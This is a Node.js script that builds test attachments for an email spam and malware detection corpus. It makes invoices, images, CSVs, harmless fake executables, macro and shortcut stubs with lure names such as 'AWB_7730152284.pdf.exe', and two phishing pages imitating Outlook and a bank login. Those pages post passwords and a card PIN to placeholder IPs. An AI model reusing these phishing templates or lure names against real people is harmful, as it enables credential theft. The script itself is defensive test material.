'use strict';
// Builds every binary attachment used by the held-out corpus, deterministically.
// Nothing here is executable code: "executables" are a few bytes starting with "MZ" plus padding,
// scripts are harmless one-liners, macro documents contain a placeholder word/vbaProject.bin.
//
//   node bench/corpus/tuned/tools/heldout-v1/build-attachments.cjs            # list what would be built
//   node bench/corpus/tuned/tools/heldout-v1/build-attachments.cjs --out DIR  # also write the files to DIR
//
// Run from /work/main (the repository root) so that require('yazl') resolves.

const fs = require('node:fs');
const path = require('node:path');
const zlib = require('node:zlib');
const yazl = require('yazl');

// Fixed timestamp for every ZIP entry, so the archives are byte-identical on every run.
const ZIP_MTIME = new Date(Date.UTC(2025, 5, 2, 8, 30, 0));

// ---------------------------------------------------------------------------------------------
// PDF: a minimal, valid one-page PDF 1.4 with Helvetica text lines and a correct xref table.
// ---------------------------------------------------------------------------------------------
function pdf(title, lines) {
  const esc = (s) => s.replace(/\\/g, '\\\\').replace(/\(/g, '\\(').replace(/\)/g, '\\)');
  const ops = ['BT', '/F1 16 Tf', '56 780 Td', `(${esc(title)}) Tj`, '/F1 10 Tf', '0 -28 Td'];
  for (const l of lines) ops.push(`(${esc(l)}) Tj`, '0 -14 Td');
  ops.push('ET');
  const stream = ops.join('\n');
  const objs = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    `<< /Length ${Buffer.byteLength(stream, 'latin1')} >>\nstream\n${stream}\nendstream`,
    `<< /Title (${esc(title)}) /Producer (Valley CRM held-out corpus) /CreationDate (D:20250602083000Z) >>`,
  ];
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets = [];
  objs.forEach((o, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objs.length + 1}\n0000000000 65535 f \n`;
  for (const off of offsets) out += `${String(off).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objs.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

// ---------------------------------------------------------------------------------------------
// PNG: truecolour image drawn by a pixel function, with a correct CRC on every chunk.
// ---------------------------------------------------------------------------------------------
const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();
function crc32(buf) {
  let c = 0xffffffff;
  for (const b of buf) c = CRC_TABLE[(c ^ b) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}
function chunk(type, data) {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}
function png(w, h, pixel) {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // colour type: RGB
  const raw = Buffer.alloc((w * 3 + 1) * h);
  for (let y = 0; y < h; y++) {
    raw[y * (w * 3 + 1)] = 0; // filter: none
    for (let x = 0; x < w; x++) {
      const [r, g, b] = pixel(x, y);
      const o = y * (w * 3 + 1) + 1 + x * 3;
      raw[o] = r;
      raw[o + 1] = g;
      raw[o + 2] = b;
    }
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(raw, { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

// ---------------------------------------------------------------------------------------------
// Fake binaries. Not runnable: an "MZ" header, zero padding and a marker string.
// ---------------------------------------------------------------------------------------------
function fakeExe(tag) {
  const head = Buffer.alloc(64);
  head.write('MZ', 0, 'ascii');
  head[2] = 0x90;
  const marker = Buffer.from(`\0HARMLESS TEST FIXTURE (${tag}) - not a program\0`, 'ascii');
  return Buffer.concat([head, marker, Buffer.alloc(32)]);
}

function fakeLnk() {
  // Shell-link header magic + LinkCLSID, then zeros: recognisable as .lnk, points at nothing.
  const b = Buffer.alloc(76);
  b.writeUInt32LE(0x4c, 0);
  Buffer.from('0114020000000000c000000000000046', 'hex').copy(b, 4);
  return b;
}

function fakeIso(label) {
  // ISO 9660: 16 empty system sectors, then a Primary Volume Descriptor ("CD001") and a terminator.
  const sector = 2048;
  const b = Buffer.alloc(sector * 18);
  const pvd = 16 * sector;
  b[pvd] = 1;
  b.write('CD001', pvd + 1, 'ascii');
  b[pvd + 6] = 1;
  b.write(label.padEnd(32, ' ').slice(0, 32), pvd + 40, 'ascii');
  const term = 17 * sector;
  b[term] = 255;
  b.write('CD001', term + 1, 'ascii');
  b[term + 6] = 1;
  return b;
}

function oleStub() {
  // OLE2 compound-file signature followed by zeros: the shape of a vbaProject.bin, no macro inside.
  return Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)]);
}

function zip(entries) {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    for (const [name, data] of entries) z.addBuffer(Buffer.isBuffer(data) ? data : Buffer.from(data, 'utf8'), name, { mtime: ZIP_MTIME });
    z.end();
    const chunks = [];
    z.outputStream.on('data', (c) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
  });
}

function ooxml(kind) {
  const isWord = kind === 'docm';
  const dir = isWord ? 'word' : 'xl';
  const main = isWord ? 'document.xml' : 'workbook.xml';
  const mainType = isWord
    ? 'application/vnd.ms-word.document.macroEnabled.main+xml'
    : 'application/vnd.ms-excel.sheet.macroEnabled.main+xml';
  const types =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
    `<Override PartName="/${dir}/${main}" ContentType="${mainType}"/>` +
    '</Types>';
  const rels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${dir}/${main}"/>` +
    '</Relationships>';
  const body = isWord
    ? '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Enable content to view this document.</w:t></w:r></w:p></w:body></w:document>'
    : '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>';
  return zip([
    ['[Content_Types].xml', types],
    ['_rels/.rels', rels],
    [`${dir}/${main}`, body],
    [`${dir}/vbaProject.bin`, oleStub()],
  ]);
}

// ---------------------------------------------------------------------------------------------
// The catalogue. Keys are referenced by build-corpus.cjs; file names are chosen per message there.
// ---------------------------------------------------------------------------------------------
async function build() {
  const A = {};

  // --- ham: PDFs -------------------------------------------------------------------------------
  A['pdf-invoice-ledgerline'] = pdf('Ledgerline Bookkeeping - Invoice LL-2025-0417', [
    'Bill to: Keystone Fabrication Ltd, 44 Foundry Row, Millbrook',
    'Invoice date: 2025-04-30    Due: 2025-05-30',
    'Monthly bookkeeping (April 2025) ............ 640.00',
    'Payroll run x2 .............................. 120.00',
    'Subtotal 760.00   VAT 20% 152.00   Total 912.00 GBP',
    'Bank transfer: Ledgerline Bookkeeping, sort code 00-00-00, acct 00000000',
  ]);
  A['pdf-quote-forklift'] = pdf('Brightlift Equipment Hire - Quotation Q-88213', [
    'Customer: Orchard Lane Logistics',
    '2x 2.5t LPG counterbalance forklift, 12 weeks ........ 2 x 1,380.00',
    'Delivery and collection ............................... 180.00',
    'Operator familiarisation (half day) .................... 95.00',
    'Total excl. VAT: 2,935.00 EUR. Valid for 30 days.',
  ]);
  A['pdf-menu-catering'] = pdf('Saffron & Sage Catering - Corporate Menu 2025', [
    'Breakfast boxes from 8.50 per person',
    'Working lunch (sandwich platters, salads, fruit) from 14.00 pp',
    'Hot buffet (two mains, two sides, dessert) from 22.00 pp',
    'Minimum order 10 guests; 48 hours notice; dietary labels on every tray.',
  ]);
  A['pdf-invoice-pressworks'] = pdf('Pressworks Print Studio - Invoice PW-10552', [
    '500x A5 flyers, 170gsm silk, double-sided ........ 96.00',
    '2x roll-up banners 850x2000 with case ............ 178.00',
    'Courier ........................................... 12.00',
    'Total 286.00 USD - paid by card on 2025-03-18, thank you.',
  ]);
  A['pdf-creditnote'] = pdf('Tallyworks Cloud - Credit Note CN-2025-0031', [
    'Relates to invoice TW-2025-1187',
    'Credit for 3 unused seats (pro-rata, 14 days) ..... -31.50',
    'This credit will be applied to your next invoice automatically.',
  ]);
  A['pdf-rechnung'] = pdf('Rechnung Nr. 2025-1093 - Druckerei Lindenhof', [
    'Leistung: 2.000 Visitenkarten, 4/4-farbig, 350 g/m2',
    'Nettobetrag 184,00 EUR   USt 19% 34,96 EUR   Gesamt 218,96 EUR',
    'Zahlbar innerhalb von 14 Tagen ohne Abzug.',
  ]);
  A['pdf-commission'] = pdf('Harborview Software - Partner Commission Statement Q2 2025', [
    'Partner: Cobalt Ridge Consulting',
    'Closed deals: 7   Net new ARR: 48,200.00 USD',
    'Commission rate 15% ............................. 7,230.00 USD',
    'Payout scheduled: 2025-07-15',
  ]);
  A['pdf-proposal-web'] = pdf('Fernhill Digital - Website Redesign Proposal', [
    'Discovery and content audit ................. 2,400',
    'Design system and 8 page templates .......... 6,800',
    'Build on existing CMS, QA, launch ........... 5,200',
    'Total fixed fee 14,400 USD, 50% on signature, 50% at launch.',
  ]);
  A['pdf-engagement'] = pdf('Marlow & Price LLP - Engagement Letter', [
    'Scope: review of master services agreement and two order forms.',
    'Fixed fee: 1,850 GBP plus VAT. Turnaround: five business days.',
    'Please sign and return page 2 to confirm.',
  ]);
  A['pdf-invoice-hostbay'] = pdf('Hostbay Registrar - Receipt R-557102', [
    'Domain renewal: orchardlane-logistics.example, 1 year ..... 14.99',
    'WHOIS privacy ............................................. 0.00',
    'Paid with card ending 4242',
  ]);

  // --- ham: images -----------------------------------------------------------------------------
  A['png-screenshot'] = png(160, 90, (x, y) => (y < 14 ? [40, 70, 140] : x < 36 ? [230, 233, 240] : (x + y) % 23 === 0 ? [200, 200, 210] : [255, 255, 255]));
  A['png-logo'] = png(48, 48, (x, y) => ((x - 24) ** 2 + (y - 24) ** 2 < 400 ? [18, 120, 90] : [255, 255, 255]));
  A['png-banner'] = png(300, 80, (x, y) => [250 - (x >> 2), 180 + (y >> 2), 90]);
  A['png-floorplan'] = png(120, 120, (x, y) => (x % 30 === 0 || y % 40 === 0 ? [60, 60, 60] : [245, 245, 235]));

  // --- ham: CSV / text ---------------------------------------------------------------------------
  A['csv-pricing'] =
    'sku,description,unit,list_price_usd,volume_price_usd\r\n' +
    'BX-100,Corrugated box 300x200x150 single wall,each,0.62,0.48\r\n' +
    'BX-140,Corrugated box 400x300x250 double wall,each,1.35,1.09\r\n' +
    'MAIL-A4,Recycled kraft mailer A4,each,0.41,0.33\r\n' +
    'TAPE-P,Paper tape 50mm x 50m,roll,2.90,2.45\r\n' +
    'FILL-10,Void fill paper 10kg,bundle,18.00,15.50\r\n';
  A['csv-support-export'] =
    'lead_id,company,email,stage,owner,last_activity\n' +
    '10231,Keystone Fabrication,procurement@keystone-fab.example,Qualified,Dana W.,2025-09-02\n' +
    '10244,Orchard Lane Logistics,ops@orchardlane-logistics.example,Proposal,Marcus L.,2025-09-04\n' +
    '10257,Saffron & Sage,hello@saffronsage.example,New,Priya S.,2025-09-05\n' +
    '10262,"Marlow & Price, LLP",admin@marlowprice.example,Won,Dana W.,2025-08-29\n';
  A['csv-distributor'] =
    'part_no;description;old_price_eur;new_price_eur;effective\n' +
    'HX-2210;Hydraulic hose fitting 1/2";4,10;4,35;2025-11-01\n' +
    'HX-2214;Hydraulic hose fitting 3/4";5,25;5,60;2025-11-01\n' +
    'SV-0402;Solenoid valve 24V DC;38,90;41,20;2025-11-01\n' +
    'FL-1100;Return line filter element;12,70;12,70;2025-11-01\n';

  // --- ham: an ordinary ZIP of brand assets (PDF + PNG), so "has a .zip" alone is not a spam signal.
  A['zip-brand-assets'] = await zip([
    ['Greenfold-brand-assets/greenfold-logo.png', A['png-logo']],
    ['Greenfold-brand-assets/greenfold-banner.png', A['png-banner']],
    ['Greenfold-brand-assets/brand-guidelines.pdf', pdf('Greenfold Packaging - Brand guidelines (short)', ['Logo clear space: the height of the letter G on every side.', 'Primary green #12785A; never place the logo on busy photos.'])],
  ]);

  // --- spam: images ----------------------------------------------------------------------------
  A['png-casino'] = png(320, 120, (x, y) => ((x >> 4) + (y >> 4)) % 2 ? [200, 20, 40] : [250, 200, 20]);
  // A QR-code-like pattern (finder squares + pseudo-random modules); it encodes nothing.
  A['png-qr'] = png(174, 174, (x, y) => {
    const mx = Math.floor(x / 6) - 1;
    const my = Math.floor(y / 6) - 1;
    if (mx < 0 || my < 0 || mx > 26 || my > 26) return [255, 255, 255];
    const finder = (cx, cy) => {
      const dx = mx - cx;
      const dy = my - cy;
      if (dx < 0 || dy < 0 || dx > 6 || dy > 6) return null;
      const ring = Math.min(dx, dy, 6 - dx, 6 - dy);
      return ring === 1 ? [255, 255, 255] : [0, 0, 0];
    };
    const f = finder(0, 0) || finder(20, 0) || finder(0, 20);
    if (f) return f;
    return ((mx * 7919 + my * 104729 + mx * my * 31) % 11) % 2 ? [0, 0, 0] : [255, 255, 255];
  });
  A['png-pills'] = png(200, 200, (x, y) => ((x - 100) ** 2 / 4 + (y - 100) ** 2 < 2500 ? [30, 90, 220] : [255, 255, 255]));

  // --- malware look-alikes (harmless) ----------------------------------------------------------
  for (const tag of ['invoice', 'scan', 'photo', 'setup', 'awb', 'remit', 'fax', 'statement', 'pay', 'order']) A[`exe-${tag}`] = fakeExe(tag);
  A['js-echo'] = 'WScript.Echo(1);\r\n';
  A['js-echo2'] = '// shipment tracking\r\nWScript.Echo("tracking");\r\n';
  A['vbs-echo'] = 'WScript.Echo 1\r\n';
  A['bat-echo'] = '@echo off\r\necho 1\r\n';
  A['hta-stub'] = '<html><head><title>Document Viewer</title><HTA:APPLICATION ID="viewer" APPLICATIONNAME="Viewer"/></head><body><p>Loading document...</p></body></html>\r\n';
  A['lnk-stub'] = fakeLnk();
  A['iso-shipping'] = fakeIso('SHIPPING_DOCS');
  A['iso-invoice'] = fakeIso('INVOICE_0925');
  A['docm-remittance'] = await ooxml('docm');
  A['xlsm-report'] = await ooxml('xlsm');
  A['zip-js'] = await zip([['Payment_Confirmation_0392.js', A['js-echo']]]);
  A['zip-exe-awb'] = await zip([['AWB_7730152284.pdf.exe', A['exe-awb']]]);
  A['zip-exe-order'] = await zip([['PO-2025-3381.exe', A['exe-order']]]);
  A['zip-lnk'] = await zip([['Invoice_Details.pdf.lnk', A['lnk-stub']]]);
  A['zip-vbs'] = await zip([
    ['fax_message_0917/readme.txt', 'Open the document to view your fax.\r\n'],
    ['fax_message_0917/Fax_0917.vbs', A['vbs-echo']],
  ]);
  A['zip-js-nested'] = await zip([['Statement_Sept.zip', await zip([['Statement_Sept.js', A['js-echo2']]])]]);
  A['html-phish-owa'] =
    '<!DOCTYPE html>\r\n<html><head><meta charset="utf-8"><title>Outlook Web App</title></head>\r\n' +
    '<body style="font-family:Segoe UI,Arial;background:#f3f3f3">\r\n' +
    '<div style="width:320px;margin:60px auto;background:#fff;padding:24px">\r\n' +
    '<h2>Sign in</h2><p>Your session expired. Sign in again to open the secure document.</p>\r\n' +
    '<form method="post" action="http://198.51.100.23/owa/auth.php">\r\n' +
    '<input name="login" placeholder="Email address"><br><input name="passwd" type="password" placeholder="Password"><br>\r\n' +
    '<button type="submit">Sign in</button></form></div></body></html>\r\n';
  A['html-phish-bank'] =
    '<!DOCTYPE html>\r\n<html><head><meta charset="utf-8"><title>Secure Message</title></head><body>\r\n' +
    '<h3>Northmere Bank - Secure Message Center</h3><p>To read this message, confirm your online banking credentials.</p>\r\n' +
    '<form method="post" action="https://203.0.113.77/securemsg/verify">\r\n' +
    'User ID <input name="uid"><br>Password <input name="pw" type="password"><br>Card PIN <input name="pin" type="password"><br>\r\n' +
    '<input type="submit" value="Open message"></form></body></html>\r\n';

  for (const [k, v] of Object.entries(A)) if (!Buffer.isBuffer(v)) A[k] = Buffer.from(v, 'utf8');
  return A;
}

module.exports = { build };

if (require.main === module) {
  build().then((A) => {
    const i = process.argv.indexOf('--out');
    const out = i > 0 ? process.argv[i + 1] : null;
    if (out) fs.mkdirSync(out, { recursive: true });
    for (const [k, v] of Object.entries(A)) {
      if (out) fs.writeFileSync(path.join(out, k + '.bin'), v);
      console.log(`${k.padEnd(26)} ${String(v.length).padStart(6)} bytes`);
    }
  });
}
